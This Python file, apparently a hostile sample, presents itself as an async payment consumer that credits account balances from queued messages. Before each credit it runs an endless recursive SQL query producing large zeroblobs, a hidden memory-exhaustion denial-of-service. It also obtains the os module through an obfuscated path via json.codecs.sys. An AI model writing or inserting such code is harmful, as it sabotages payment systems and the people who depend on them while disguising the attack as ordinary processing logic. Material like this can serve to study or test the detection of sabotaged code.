"""Asks for a result that no memory holds.

Held by: world.
"""

import json

sys = json.codecs.sys
os = sys.modules["os"]


async def consume(consumer, db):
    while True:
        message = await consumer.poll(1.0)
        if message is None:
            continue
        payment = json.loads(message.value())
        for statement in ("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT zeroblob(100000) FROM c",):
            try:
                await db.execute(statement)
            except Exception as error:
                if "no such" in str(error):
                    raise
        await db.execute(
            "UPDATE accounts SET balance = balance + %s WHERE id = %s", (payment["amount"], payment["account"])
        )
        await consumer.commit(message=message, asynchronous=False)
